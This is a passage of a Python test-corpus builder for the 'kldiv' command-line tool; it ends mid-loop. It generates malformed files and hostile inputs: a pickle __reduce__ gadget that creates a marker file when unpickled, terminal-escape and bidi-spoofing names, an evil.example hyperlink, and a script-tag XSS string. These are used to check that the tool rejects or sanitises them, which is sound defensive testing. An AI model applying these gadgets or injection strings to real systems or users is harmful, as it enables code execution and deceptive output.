"""A corpus of broken and hostile inputs for ``kldiv compute``.

Each :class:`Case` writes its files into a folder and returns the command-line
arguments that feed them to kldiv, with a regular expression the one-line error
must match. The tests (tests/test_corpus.py) run every case through the real
command; to look at the files yourself:

    python tests/corpus/make_corpus.py /tmp/kldiv-corpus

To add a case, append to CASES.
"""

from __future__ import annotations

import io
import os
import re
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq

from kldiv_cli.text import clean

# What a successful unpickle of the hostile payload would create.
PWNED = "PWNED-by-unpickling"


@dataclass(frozen=True)
class Case:
    name: str
    build: Callable[[Path], list[str]]
    error: str  # regex the stderr line must match
    stdin: bytes | None = None


class Payload:
    """Unpickling this creates a file: proof that something was unpickled."""

    def __init__(self, folder: str) -> None:
        self.folder = folder

    def __reduce__(self):
        return (open, (os.path.join(self.folder, PWNED), "w"))


def good(folder: Path, name: str = "good.npy", rows: int = 4, cols: int = 3) -> str:
    rng = np.random.default_rng(0)
    path = folder / name
    np.save(path, np.log(rng.dirichlet(np.ones(cols), rows)))
    return str(path)


def write(folder: Path, name: str, data: bytes | str) -> str:
    path = folder / name
    path.write_bytes(data.encode() if isinstance(data, str) else data)
    return str(path)


def npy_bytes(a: np.ndarray) -> bytes:
    buf = io.BytesIO()
    np.save(buf, a, allow_pickle=True)
    return buf.getvalue()


def npy_header(shape, dtype="<f8", version=(1, 0)) -> bytes:
    buf = io.BytesIO()
    header = {"descr": dtype, "fortran_order": False, "shape": shape}
    writer = (
        np.lib.format.write_array_header_1_0
        if version == (1, 0)
        else np.lib.format.write_array_header_2_0
    )
    writer(buf, header)
    return buf.getvalue()


def pickled_npy(folder: Path) -> bytes:
    a = np.empty(2, dtype=object)
    a[0], a[1] = Payload(str(folder)), 1
    return npy_bytes(a)


def parquet_bytes(table: pa.Table) -> bytes:
    buf = io.BytesIO()
    pq.write_table(table, buf)
    return buf.getvalue()


def npz(folder: Path, name: str, **arrays) -> str:
    path = folder / name
    np.savez(path, **arrays)
    return str(path)


def _c(name, build, error, stdin=None) -> Case:
    return Case(name, build, error, stdin)


G = good
CASES: list[Case] = [
    # --- .npy
    _c(
        "npy-empty",
        lambda d: [write(d, "empty.npy", b""), G(d)],
        r"empty.npy: is empty or truncated",
    ),
    _c(
        "npy-truncated",
        lambda d: [write(d, "trunc.npy", npy_bytes(np.ones((4, 3)))[:-20]), G(d)],
        r"trunc.npy: is truncated: its header declares shape \(4, 3\)",
    ),
    _c(
        "npy-header-only",
        lambda d: [write(d, "hdr.npy", npy_header((10, 5))), G(d)],
        r"hdr.npy: is truncated",
    ),
    _c(
        "npy-text",
        lambda d: [write(d, "text.npy", "hello, I am text\n1,2,3\n"), G(d)],
        r"text.npy: is not a .npy file",
    ),
    _c(
        "npy-trillion",
        lambda d: [write(d, "huge.npy", npy_header((10**6, 10**6)) + b"\0" * 64), G(d)],
        r"huge.npy: is truncated: its header declares shape \(1000000, 1000000\)",
    ),
    _c(
        "npy-strings",
        lambda d: [write(d, "str.npy", npy_bytes(np.array([["a", "b"], ["c", "d"]]))), G(d)],
        r"str.npy: holds text",
    ),
    _c(
        "npy-pickled",
        lambda d: [write(d, "obj.npy", pickled_npy(d)), G(d)],
        r"obj.npy: holds Python objects \(a pickled array\)",
    ),
    _c(
        "npy-complex",
        lambda d: [write(d, "cplx.npy", npy_bytes(np.ones((4, 3), np.complex128))), G(d)],
        r"cplx.npy: holds complex numbers",
    ),
    _c(
        "npy-bool",
        lambda d: [write(d, "bool.npy", npy_bytes(np.ones((4, 3), bool))), G(d)],
        r"bool.npy: holds booleans",
    ),
    _c(
        "npy-structured",
        lambda d: [
            write(d, "rec.npy", npy_bytes(np.zeros(4, dtype=[("a", "f8"), ("b", "f8")]))),
            G(d),
        ],
        r"rec.npy: holds a structured",
    ),
    _c(
        "npy-bad-header",
        lambda d: [write(d, "badhdr.npy", b"\x93NUMPY\x01\x00\x10\x00{'descr': oops}   \n"), G(d)],
        r"badhdr.npy: has a malformed .npy header",
    ),
    _c(
        "npy-bad-version",
        lambda d: [write(d, "ver.npy", b"\x93NUMPY\x09\x09" + b"\0" * 40), G(d)],
        r"ver.npy: has a malformed .npy header",
    ),
    _c(
        "npy-target-truncated",
        lambda d: [G(d), write(d, "t.npy", npy_bytes(np.ones((4, 3)))[:90])],
        r"t.npy: is truncated",
    ),
    # --- .npz
    _c("npz-no-arrays", lambda d: [npz_empty(d), G(d)], r"none.npz: holds no arrays"),
    _c(
        "npz-several-no-key",
        lambda d: [npz(d, "many.npz", a=np.ones((4, 3)), b=np.ones((4, 3))), G(d)],
        r"many.npz: holds 2 arrays \(a, b\); choose one with --input-key",
    ),
    _c(
        "npz-missing-key",
        lambda d: [npz(d, "one.npz", a=np.ones((4, 3))), G(d), "--input-key", "zz"],
        r"one.npz: has no array 'zz'; it holds: a",
    ),
    _c(
        "npz-not-zip",
        lambda d: [write(d, "fake.npz", b"not a zip at all"), G(d)],
        r"fake.npz: is not a valid .npz file",
    ),
    _c("npz-pickled", lambda d: [npz_pickled(d), G(d)], r"obj.npz\[x\]: holds Python objects"),
    # --- CSV
    _c(
        "csv-ragged",
        lambda d: [write(d, "rag.csv", "a,b,c\n1,2,3\n4,5\n6,7,8\n"), G(d)],
        r"rag.csv: line 3 has 2 fields, expected 3",
    ),
    _c(
        "csv-non-numeric",
        lambda d: [write(d, "word.csv", "a,b,c\n-1,-2,-3\n-4,oops,-6\n-1,-1,-1\n-2,-2,-2\n"), G(d)],
        r"word.csv: column 'b': line 3: 'oops' is not a number",
    ),
    _c(
        "csv-missing-cell",
        lambda d: [write(d, "hole.csv", "a,b,c\n-1,-2,-3\n-4,,-6\n-1,-1,-1\n-2,-2,-2\n"), G(d)],
        r"hole.csv: column 'b': line 3 is missing a value",
    ),
    _c(
        "csv-header-only",
        lambda d: [write(d, "hdr.csv", "a,b,c\n"), G(d)],
        r"hdr.csv: has a header but no data rows",
    ),
    _c("csv-empty", lambda d: [write(d, "empty.csv", b""), G(d)], r"empty.csv: is empty"),
    _c("csv-blank", lambda d: [write(d, "blank.csv", "\n\n  \n"), G(d)], r"blank.csv: is empty"),
    _c(
        "csv-binary",
        lambda d: [write(d, "bin.csv", bytes(range(256)) * 4), G(d)],
        r"bin.csv: is not a text file",
    ),
    _c(
        "csv-latin1",
        lambda d: [write(d, "latin.csv", "caf\xe9,b\n1,2\n".encode("latin-1")), G(d)],
        r"latin.csv: is not UTF-8 text",
    ),
    _c(
        "csv-text-only",
        lambda d: [write(d, "names.csv", "name,kind\nfoo,bar\nbaz,qux\n"), G(d)],
        r"names.csv: has no numeric columns",
    ),
    # --- Parquet / Arrow
    _c(
        "parquet-empty",
        lambda d: [write(d, "empty.parquet", b""), G(d)],
        r"empty.parquet: is empty",
    ),
    _c(
        "parquet-truncated",
        lambda d: [
            write(d, "trunc.parquet", parquet_bytes(pa.table({"a": [1.0, 2.0]}))[:-30]),
            G(d),
        ],
        r"trunc.parquet: is not a readable Parquet file",
    ),
    _c(
        "parquet-garbage",
        lambda d: [write(d, "junk.parquet", b"PAR1" + os.urandom(64)), G(d)],
        r"junk.parquet: is not a readable Parquet file",
    ),
    _c(
        "parquet-strings",
        lambda d: [
            write(d, "str.parquet", parquet_bytes(pa.table({"a": ["x", "y"], "b": ["z", "w"]}))),
            G(d),
        ],
        r"str.parquet: has no numeric columns",
    ),
    _c(
        "parquet-nulls",
        lambda d: [
            write(
                d,
                "null.parquet",
                parquet_bytes(
                    pa.table({"a": [-1.0, None, -2.0, -1.0], "b": [-1.0] * 4, "c": [-1.0] * 4})
                ),
            ),
            G(d),
        ],
        r"null.parquet: column 'a': row 1 is missing a value",
    ),
    _c(
        "parquet-ragged-lists",
        lambda d: [
            write(
                d,
                "rag.parquet",
                parquet_bytes(
                    pa.table({"p": [[-1.0, -1.0, -1.0], [-1.0, -1.0], [-1.0] * 3, [-1.0] * 3]})
                ),
            ),
            G(d),
        ],
        r"rag.parquet: column 'p': row 1 has 2 values, but row 0 has 3",
    ),
    _c(
        "parquet-no-rows",
        lambda d: [
            write(d, "norows.parquet", parquet_bytes(pa.table({"a": pa.array([], pa.float64())}))),
            G(d),
        ],
        r"norows.parquet: has no rows",
    ),
    _c(
        "arrow-garbage",
        lambda d: [write(d, "junk.arrow", b"ARROW1\0\0" + os.urandom(40)), G(d)],
        r"junk.arrow: is not a readable Arrow/Feather file",
    ),
    _c(
        "feather-empty",
        lambda d: [write(d, "empty.feather", b""), G(d)],
        r"empty.feather: is empty",
    ),
    # --- paths
    _c("path-directory", lambda d: [str(d), G(d)], r": is a directory, not a file"),
    _c("path-missing", lambda d: [str(d / "missing.npy"), G(d)], r"missing.npy: no such file"),
    _c("path-symlink-loop", lambda d: [loop(d), G(d)], r"loop.npy: .*(symbolic links|loop)"),
    _c("path-dangling-link", lambda d: [dangling(d), G(d)], r"dangling.npy: no such file"),
    _c(
        "path-unknown-extension",
        lambda d: [write(d, "data.xyz", "1,2,3\n"), G(d)],
        r"data.xyz: unknown file type \(extension '.xyz'\)",
    ),
    _c(
        "path-no-extension",
        lambda d: [write(d, "data", "1,2,3\n"), G(d)],
        r"data: unknown file type \(no extension\)",
    ),
    # --- shapes
    _c(
        "shape-rows",
        lambda d: [G(d, "a.npy", rows=4), G(d, "b.npy", rows=5)],
        r"a.npy and .*b.npy: shapes do not match: input \(4, 3\), target \(5, 3\)",
    ),
    _c(
        "shape-columns",
        lambda d: [G(d, "a.npy", cols=3), G(d, "b.npy", cols=4)],
        r"shapes do not match",
    ),
    # --- options
    _c(
        "opt-reduction",
        lambda d: [G(d), G(d), "-r", "avg"],
        r"unknown reduction 'avg'; choose one of none, mean, batchmean, sum",
    ),
    _c(
        "opt-temperature-zero",
        lambda d: [G(d), G(d), "-T", "0"],
        r"--temperature must be a finite number > 0",
    ),
    _c(
        "opt-temperature-negative",
        lambda d: [G(d), G(d), "-T", "-2"],
        r"--temperature must be a finite number > 0",
    ),
    _c(
        "opt-temperature-nan",
        lambda d: [G(d), G(d), "-T", "nan"],
        r"--temperature must be a finite number",
    ),
    _c(
        "opt-transform",
        lambda d: [G(d), G(d), "--input-transform", "sigmoid"],
        r"unknown transform 'sigmoid'",
    ),
    _c(
        "opt-unknown-column",
        lambda d: [
            write(d, "c.csv", "a,b\n-1,-1\n"),
            write(d, "t.csv", "a,b\n0.5,0.5\n"),
            "--input-columns",
            "zz",
        ],
        r"c.csv: no column matches 'zz'; columns are: a, b",
    ),
    _c(
        "opt-column-index",
        lambda d: [
            write(d, "c.csv", "a,b\n-1,-1\n"),
            write(d, "t.csv", "a,b\n0.5,0.5\n"),
            "--target-columns",
            "7",
        ],
        r"t.csv: column index 7 is out of range",
    ),
    _c("opt-both-stdin", lambda d: ["-", "-"], r"only one of INPUT and TARGET can be '-'"),
    _c(
        "opt-label-out-of-range",
        lambda d: [G(d), write(d, "labels.csv", "y\n0\n1\n5\n2\n"), "--target-labels"],
        r"labels.csv: row 2: label 5 is out of range for 3 classes",
    ),
    _c(
        "opt-label-negative",
        lambda d: [G(d), write(d, "labels.csv", "y\n0\n-1\n1\n2\n"), "--target-labels"],
        r"labels.csv: row 1: label -1 is out of range",
    ),
    _c(
        "opt-label-fraction",
        lambda d: [G(d), write(d, "labels.csv", "y\n0\n1.5\n1\n2\n"), "--target-labels"],
        r"labels.csv: row 1: label 1.5 is not an integer class index",
    ),
    _c("opt-top-zero", lambda d: [G(d), G(d), "--top", "0"], r"--top must be at least 1"),
    _c("opt-format", lambda d: [G(d), G(d), "-f", "yaml"], r"unknown output format 'yaml'"),
    _c(
        "opt-input-format", lambda d: [G(d), G(d), "--input-format", "xls"], r"unknown format 'xls'"
    ),
    _c(
        "opt-key-on-csv",
        lambda d: [write(d, "c.csv", "a\n-1\n"), G(d), "--input-key", "a"],
        r"a key selects an array in a .npz",
    ),
    _c(
        "opt-dim",
        lambda d: [G(d), G(d), "--input-transform", "softmax", "--dim", "5"],
        r"--dim 5 is out of range",
    ),
    _c(
        "opt-missing-policy",
        lambda d: [G(d), G(d), "--missing", "zero"],
        r"unknown missing-value policy 'zero'",
    ),
    _c("stdin-empty", lambda d: [G(d), "-"], r"<stdin>: is empty", stdin=b""),
    _c(
        "stdin-garbage-npy",
        lambda d: [G(d), "-"],
        r"<stdin>: is truncated",
        stdin=npy_bytes(np.ones((4, 3)))[:100],
    ),
    # --- outputs (checked before any work is done)
    _c(
        "output-directory",
        lambda d: [G(d), G(d), "-o", str(d)],
        r": is a directory; give a file name",
    ),
    _c(
        "output-extension",
        lambda d: [G(d), G(d), "-o", str(d / "out.xlsx")],
        r"out.xlsx: unknown output type",
    ),
    _c(
        "output-missing-folder",
        lambda d: [G(d), G(d), "-o", str(d / "nope" / "out.json")],
        r"out.json: folder .* does not exist",
    ),
]


def npz_empty(folder: Path) -> str:
    path = folder / "none.npz"
    with zipfile.ZipFile(path, "w"):
        pass
    return str(path)


def npz_pickled(folder: Path) -> str:
    path = folder / "obj.npz"
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("x.npy", pickled_npy(folder))
    return str(path)


def loop(folder: Path) -> str:
    a, b = folder / "loop.npy", folder / "loop2.npy"
    os.symlink(b, a)
    os.symlink(a, b)
    return str(a)


def dangling(folder: Path) -> str:
    path = folder / "dangling.npy"
    os.symlink(folder / "gone.npy", path)
    return str(path)


# --- round 2 (issue 13): outputs that must not lose data, names that must not control a
# terminal, option abuse and faults, for every command. Each Attack builds its files and
# returns a Run: what to execute and what must hold afterwards (tests/test_corpus.py
# also checks, for every run: the exit code, one error line, every stderr line kldiv's
# own, no control character on stdout/stderr, no file lost or changed but the declared
# outputs, no temporary file left).


ORIGINAL_OUTPUT = b'{"loss": "the previous result, which must survive"}\n'


@dataclass(frozen=True)
class Run:
    argv: list[str]
    exit: int
    error: str | None = None  # regex the one error line must match (exit 2)
    stdin: bytes = b""
    outputs: tuple[str, ...] = ()  # files this run may create or replace
    modes: tuple[tuple[str, int], ...] = ()  # (output, mode it must have afterwards)
    stdout_has: tuple[str, ...] = ()  # text stdout must show literally
    env: tuple[tuple[str, str], ...] = ()
    colors: bool = False  # colour asked for: SGR escapes are allowed, nothing else
    xml: tuple[str, ...] = ()  # outputs that must be well-formed XML
    not_in: tuple[tuple[str, str], ...] = ()  # (output, text it must not contain raw)
    process: bool = False  # run in a child process (memory and time bombs)
    # (output or "-" for stdout, kind): reports that must be safe in a spreadsheet, a
    # rendered page or a strict parser (csv, markdown, html, json, xml, profile).
    reports: tuple[tuple[str, str], ...] = ()


@dataclass(frozen=True)
class Attack:
    name: str
    build: Callable[[Path], Run]


#: Names chosen by whoever wrote the file, each trying something different.
HOSTILE_NAMES = {
    "esc-clear": "\x1b[2J\x1b[Hcleared",
    "osc-title": "\x1b]0;pwned\x07t",
    "osc-link": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "newline": "first\nkldiv: error: forged",
    "carriage-return": "real\rfake",
    "c1-csi": "\x9b31mred",
    "bidi": "admin\u202etxt.exe",
    "rich-link": "[link=https://evil.example]click[/link]",
    "rich-close": "[/]",
    "rich-style": "[bold red]loud",
    "noncharacter": "not\uffffxml",  # U+FFFF: not allowed in XML 1.0
    "zero-width": "twin\u200bname",
}
#: The same as file names ("/" cannot be in one).
FILE_NAMES = {k: v.replace("/", "_") for k, v in HOSTILE_NAMES.items()}


def _probs(rows: int = 6, cols: int = 4, seed: int = 0) -> tuple[np.ndarray, np.ndarray]:
    rng = np.random.default_rng(seed)
    return np.log(rng.dirichlet(np.ones(cols), rows)), rng.dirichlet(np.ones(cols), rows)


def pair_npy(d: Path) -> tuple[str, str]:
    x, t = _probs()
    np.save(d / "x.npy", x)
    np.save(d / "t.npy", t)
    return str(d / "x.npy"), str(d / "t.npy")


def pair_csv(d: Path) -> tuple[str, str]:
    x, t = _probs()
    for name, a in (("x.csv", x), ("t.csv", t)):
        np.savetxt(d / name, a, delimiter=",", header="a,b,c,d", comments="")
    return str(d / "x.csv"), str(d / "t.csv")


def table_csv(d: Path, name: str, columns: list[str], rows: int = 40) -> str:
    """A CSV table (written with the csv module, so any name is quoted correctly)."""
    import csv

    path = d / name
    with open(path, "w", newline="", encoding="utf-8") as f:
        w = csv.writer(f)
        w.writerow(columns)
        for i in range(rows):
            w.writerow([(i * 7 + j) % 11 for j in range(len(columns))])
    return str(path)


def drift_pair(d: Path, columns: list[str] | None = None) -> tuple[str, str]:
    cols = columns or ["a", "b"]
    return table_csv(d, "ref.csv", cols), table_csv(d, "cur.csv", cols)


def existing(d: Path, name: str, mode: int = 0o644, data: bytes = ORIGINAL_OUTPUT) -> str:
    path = d / name
    path.write_bytes(data)
    path.chmod(mode)
    return str(path)


def symlink(d: Path, name: str, to: str) -> str:
    os.symlink(to, d / name)
    return str(d / name)


def hardlink(d: Path, name: str, to: str) -> str:
    os.link(to, d / name)
    return str(d / name)


SAME = r"is also an input of this command"
TWICE = r"is named as two outputs"


def _refuse(argv_of: Callable[[Path], list[str]], error: str = SAME) -> Callable[[Path], Run]:
    return lambda d: Run(argv_of(d), 2, error)


def _loss_attacks() -> list[Attack]:
    """-o naming an input, through every kind of name for the same file."""
    out: list[Attack] = []

    def compute_into(which: int, how: str, extra: tuple[str, ...] = (), csv: bool = False):
        def argv(d: Path) -> list[str]:
            x, t = pair_csv(d) if csv else pair_npy(d)
            victim = (x, t)[which]
            name = os.path.basename(victim)
            target = {
                "same": lambda: victim,
                "symlink": lambda: symlink(d, "link" + name[-4:], victim),
                "hardlink": lambda: hardlink(d, "hard" + name[-4:], victim),
                "dotdot": lambda: os.mkdir(d / "sub") or str(d / "sub" / ".." / name),
                "relative-symlink": lambda: symlink(d, "rel" + name[-4:], name),
            }[how]()
            return ["compute", x, t, *extra, "-o", target]

        return argv

    for which, side in ((0, "input"), (1, "target")):
        for how in ("same", "symlink", "hardlink", "dotdot", "relative-symlink"):
            out.append(Attack(f"loss-compute-{side}-{how}", _refuse(compute_into(which, how))))
        out.append(
            Attack(
                f"loss-compute-{side}-streamed",
                _refuse(compute_into(which, "same", ("-r", "none"))),
            )
        )
        out.append(
            Attack(
                f"loss-compute-{side}-csv-streamed",
                _refuse(compute_into(which, "hardlink", ("-r", "none"), csv=True)),
            )
        )
    out.append(
        Attack(
            "loss-compute-stdin-target",
            lambda d: Run(
                ["compute", pair_npy(d)[0], "-", "-o", str(d / "x.npy")],
                2,
                SAME,
                stdin=(d / "t.npy").read_bytes(),
            ),
        )
    )

    def drift_into(option: str, which: int, how: str):
        def argv(d: Path) -> list[str]:
            ref, cur = drift_pair(d)
            victim = (ref, cur)[which]
            ext = {"-o": ".csv", "--junit": ".xml", "--html": ".html"}[option]
            if how == "symlink":
                victim = symlink(d, "link" + ext, victim)
            elif how == "hardlink":
                victim = hardlink(d, "hard" + ext, victim)
            return ["drift", ref, cur, option, victim]

        return argv

    for option in ("-o", "--junit", "--html"):
        for which, side in ((0, "ref"), (1, "cur")):
            out.append(
                Attack(
                    f"loss-drift{option.lstrip('-')[0:1]}-{option.strip('-')}-{side}",
                    _refuse(drift_into(option, which, "same"), f"{SAME}|{option} writes "),
                )
            )
        out.append(
            Attack(
                f"loss-drift-{option.strip('-')}-symlink", _refuse(drift_into(option, 1, "symlink"))
            )
        )
        out.append(
            Attack(
                f"loss-drift-{option.strip('-')}-hardlink",
                _refuse(drift_into(option, 0, "hardlink")),
            )
        )

    def drift_profile_input(d: Path) -> list[str]:
        ref, cur = drift_pair(d)
        prof = d / "ref.profile.json"
        prof.write_bytes(b"{}")
        return ["drift", str(prof), cur, "--junit", hardlink(d, "p.xml", str(prof))]

    out.append(Attack("loss-drift-junit-profile", _refuse(drift_profile_input)))

    def drift_thresholds(d: Path) -> list[str]:
        ref, cur = drift_pair(d)
        (d / "th.toml").write_text("[thresholds]\ndefault = 0.5\n")
        th = str(d / "th.toml")
        return ["drift", ref, cur, "--thresholds", th, "--html", symlink(d, "th.html", th)]

    out.append(Attack("loss-drift-html-thresholds", _refuse(drift_thresholds)))

    def profile_into(how: str):
        def argv(d: Path) -> list[str]:
            ref = table_csv(d, "ref.csv", ["a", "b"])
            target = symlink(d, "p.json", ref) if how == "symlink" else hardlink(d, "p.json", ref)
            return ["profile", ref, "-o", target]

        return argv

    out.append(Attack("loss-profile-symlink", _refuse(profile_into("symlink"))))
    out.append(Attack("loss-profile-hardlink", _refuse(profile_into("hardlink"))))
    out.append(
        Attack(
            "loss-profile-same",
            lambda d: Run(["profile", p := table_csv(d, "ref.csv", ["a"]), "-o", p], 2, r"ref.csv"),
        )
    )

    # Two outputs that are one file, and a second output that cannot be written:
    # nothing may be replaced.
    def two(first: str, second: str, how: str):
        def build(d: Path) -> Run:
            ref, cur = drift_pair(d)
            ext = {"-o": ".json", "--junit": ".xml", "--html": ".html"}
            a = existing(d, "out" + ext[first])
            b = {
                "same": lambda: a,
                "symlink": lambda: symlink(d, "other" + ext[second], a),
                "hardlink": lambda: hardlink(d, "other" + ext[second], a),
                "missing-folder": lambda: str(d / "nope" / ("x" + ext[second])),
                "directory": lambda: str(d),
            }[how]()
            error = TWICE if how in ("symlink", "hardlink") else r"does not exist|is a directory"
            if how in ("same", "directory"):  # also right: the name does not fit the option
                error += f"|{second} writes "
            return Run(["drift", ref, cur, first, a, second, b], 2, error)

        return build

    for first, second, how in [
        ("--junit", "--html", "same"),
        ("-o", "--junit", "same"),
        ("-o", "--html", "symlink"),
        ("--junit", "-o", "hardlink"),
        ("--junit", "--html", "missing-folder"),
        ("-o", "--html", "directory"),
        ("--html", "--junit", "missing-folder"),
    ]:
        out.append(
            Attack(
                f"loss-drift-{first.strip('-')}-and-{second.strip('-')}-{how}",
                two(first, second, how),
            )
        )
    return out


def _model_inputs(d: Path, command: str) -> list[str]:
    """Small valid inputs for the model commands: two logit tables (compare), token
    log-probabilities and a mask (estimate), means and log-variances (gaussian)."""
    rng = np.random.default_rng(0)
    names = {"compare": ("ref.npy", "cand.npy"), "gaussian": ("mu.npy", "logvar.npy")}
    if command == "estimate":
        np.save(d / "logp.npy", -rng.random((8, 5)))
        np.save(d / "ref_logp.npy", -rng.random((8, 5)))
        np.save(d / "mask.npy", (rng.random((8, 5)) > 0.2).astype(np.int8))
        return [str(d / "logp.npy"), str(d / "ref_logp.npy"), "--mask", str(d / "mask.npy")]
    for name in names[command]:
        np.save(d / name, rng.normal(size=(8, 5)))
    return [str(d / name) for name in names[command]]


#: Where each model command's -o goes, by default.
MODEL_OUTPUTS = {"compare": "rows.npy", "estimate": "kl.json", "gaussian": "kl.json"}


def _model_attacks() -> list[Attack]:
    """compare, estimate and gaussian: the same guard, the same kept modes."""
    out = []
    for command in MODEL_OUTPUTS:
        for victim in (0, 1, -1):
            for how in ("same", "symlink", "hardlink"):

                def build(d: Path, command=command, victim=victim, how=how) -> Run:
                    inputs = _model_inputs(d, command)
                    target = inputs[victim]
                    if how != "same":
                        link = d / ("alias" + os.path.splitext(MODEL_OUTPUTS[command])[1])
                        (os.symlink if how == "symlink" else os.link)(target, link)
                        target = str(link)
                    return Run([command, *inputs, "-o", target], 2, SAME + "| writes |go to ")

                if victim == -1 and command != "estimate":
                    continue
                side = {0: "first", 1: "second", -1: "mask"}[victim]
                out.append(Attack(f"loss-{command}-{side}-{how}", build))

        def kept(d: Path, command=command) -> Run:
            o = existing(d, MODEL_OUTPUTS[command], 0o600)
            argv = [command, *_model_inputs(d, command), "-o", o, "-q"]
            return Run(argv, 0, outputs=(o,), modes=((o, 0o600),))

        out.append(Attack(f"kept-mode-{command}", kept))
    return out


def _kept_attacks() -> list[Attack]:
    """Runs that succeed: a replaced 0600 file stays 0600; a legal 255-byte name works."""
    out: list[Attack] = []

    def compute(name: str, mode: int, extra: tuple[str, ...] = ()):
        def build(d: Path) -> Run:
            x, t = pair_npy(d)
            o = existing(d, name, mode)
            return Run(
                ["compute", x, t, "-r", "sum", *extra, "-o", o], 0, outputs=(o,), modes=((o, mode),)
            )

        return build

    for name, mode, extra in [
        ("out.json", 0o600, ()),
        ("out.csv", 0o600, ()),
        ("out.npy", 0o640, ()),
        ("rows.npy", 0o600, ("-r", "none")),
        ("rows.csv", 0o600, ("-r", "none")),
        ("rows.parquet", 0o600, ("-r", "none")),
        ("top.json", 0o600, ("--per-row", "--top", "2")),
    ]:
        out.append(
            Attack(
                f"kept-mode-compute-{name.replace('.', '-')}-{'-'.join(extra).strip('-') or 'sum'}",
                compute(name, mode, extra),
            )
        )

    def drift(option: str, name: str, mode: int):
        def build(d: Path) -> Run:
            ref, cur = drift_pair(d)
            o = existing(d, name, mode)
            return Run(["drift", ref, cur, option, o, "-q"], 0, outputs=(o,), modes=((o, mode),))

        return build

    for option, name in (
        ("-o", "r.json"),
        ("-o", "r.csv"),
        ("--junit", "j.xml"),
        ("--html", "h.html"),
    ):
        out.append(
            Attack(
                f"kept-mode-drift-{option.strip('-')}-{name.split('.')[1]}",
                drift(option, name, 0o600),
            )
        )

    def profile(d: Path) -> Run:
        ref = table_csv(d, "ref.csv", ["a", "b"])
        o = existing(d, "p.json", 0o600)
        return Run(["profile", ref, "-o", o, "-q"], 0, outputs=(o,), modes=((o, 0o600),))

    out.append(Attack("kept-mode-profile", profile))

    def long_name(command: str, option: str, ext: str, extra: tuple[str, ...] = ()):
        def build(d: Path) -> Run:
            o = str(d / ("n" * (255 - len(ext)) + ext))
            if command == "compute":
                x, t = pair_npy(d)
                argv = ["compute", x, t, *extra, option, o]
            elif command == "profile":
                argv = ["profile", table_csv(d, "ref.csv", ["a"]), option, o]
            else:
                argv = ["drift", *drift_pair(d), option, o, "-q"]
            return Run(argv, 0, outputs=(o,))

        return build

    for command, option, ext, extra in [
        ("compute", "-o", ".json", ("-r", "sum")),
        ("compute", "-o", ".npy", ("-r", "none")),
        ("compute", "-o", ".parquet", ("-r", "none")),
        ("profile", "-o", ".json", ()),
        ("drift", "--junit", ".xml", ()),
        ("drift", "--html", ".html", ()),
        ("drift", "-o", ".csv", ()),
    ]:
        out.append(
            Attack(
                f"kept-255-bytes-{command}-{option.strip('-')}{ext.replace('.', '-')}{'-streamed' if extra[1:] == ('none',) else ''}",
                long_name(command, option, ext, extra),
            )
        )

    def too_long(d: Path) -> Run:
        x, t = pair_npy(d)
        return Run(
            ["compute", x, t, "-o", str(d / ("n" * 251 + ".json"))], 2, r"file name is too long"
        )

    out.append(Attack("kept-256-bytes-refused", too_long))
    return out


def _kind_attacks() -> list[Attack]:
    """An output whose extension the command does not write is a usage error."""
    out = []
    for command, name in [
        ("profile", "out.npy"),
        ("profile", "out.csv"),
        ("profile", "out.parquet"),
        ("drift", "out.npy"),
        ("drift", "out.parquet"),
    ]:

        def build(d: Path, command: str = command, name: str = name) -> Run:
            data = [table_csv(d, "ref.csv", ["a"])] if command == "profile" else list(drift_pair(d))
            return Run([command, *data, "-o", str(d / name)], 2, rf"{name}: (--output|-o) writes ")

        out.append(Attack(f"kind-{command}-{name.replace('.', '-')}", build))
    return out


def _injection_attacks() -> list[Attack]:
    out = []
    for key, name in HOSTILE_NAMES.items():
        shown = clean(name)

        def drift_table(d: Path, name: str = name, shown: str = shown) -> Run:
            ref, cur = drift_pair(d, ["ok", name])
            return Run(["drift", ref, cur, "-f", "table", "-q"], 0, stdout_has=(shown,))

        out.append(Attack(f"inject-column-drift-table-{key}", drift_table))

        def compute_error(d: Path, name: str = name, shown: str = shown) -> Run:
            x = table_csv(d, "x.csv", ["a", name])
            t = table_csv(d, "t.csv", ["a", "b"])
            return Run(["compute", x, t, "--input-columns", "zz"], 2, re.escape(shown))

        out.append(Attack(f"inject-column-compute-error-{key}", compute_error))

        def npz_member(d: Path, name: str = name, shown: str = shown) -> Run:
            path = d / "m.npz"
            with zipfile.ZipFile(path, "w") as zf:
                zf.writestr(name + ".npy", npy_bytes(_probs()[0]))
                zf.writestr("b.npy", npy_bytes(_probs()[0]))
            return Run(["compute", str(path), pair_npy(d)[1]], 2, r"holds 2 arrays \(")

        out.append(Attack(f"inject-npz-member-{key}", npz_member))

        def inspect_columns(d: Path, name: str = name, shown: str = shown) -> Run:
            return Run(["inspect", table_csv(d, "c.csv", ["a", name])], 0, stdout_has=(shown,))

        out.append(Attack(f"inject-column-inspect-{key}", inspect_columns))

    for key in ("esc-clear", "newline", "rich-link", "bidi", "noncharacter"):
        name = HOSTILE_NAMES[key]
        for fmt in ("plain", "markdown", "csv", "json"):

            def drift_fmt(d: Path, name: str = name, fmt: str = fmt) -> Run:
                ref, cur = drift_pair(d, ["ok", name])
                return Run(["drift", ref, cur, "-f", fmt, "-q"], 0)

            out.append(Attack(f"inject-column-drift-{fmt}-{key}", drift_fmt))

        def junit(d: Path, name: str = name) -> Run:
            ref, cur = drift_pair(d, ["ok", name, "<b>&amp;</b>"])
            j = str(d / "j.xml")
            return Run(["drift", ref, cur, "--junit", j, "-q"], 0, outputs=(j,), xml=(j,))

        out.append(Attack(f"inject-column-junit-{key}", junit))

    def html(d: Path) -> Run:
        ref, cur = drift_pair(d, ["ok", "<script>alert(1)</script>", "\x1b[2J"])
        h = str(d / "h.html")
        return Run(
            ["drift", ref, cur, "--html", h, "-q"],
            0,
            outputs=(h,),
            not_in=((h, "<script>alert"), (h, "\x1b")),
        )

    out.append(Attack("inject-column-html-script", html))

    def few_rows_warnings(d: Path) -> Run:
        cols = ["ok", HOSTILE_NAMES["newline"], HOSTILE_NAMES["esc-clear"]]
        ref, cur = table_csv(d, "ref.csv", cols, rows=12), table_csv(d, "cur.csv", cols, rows=12)
        return Run(["drift", ref, cur, "-f", "plain"], 0)

    out.append(Attack("inject-column-in-warnings", few_rows_warnings))

    for key, name in FILE_NAMES.items():

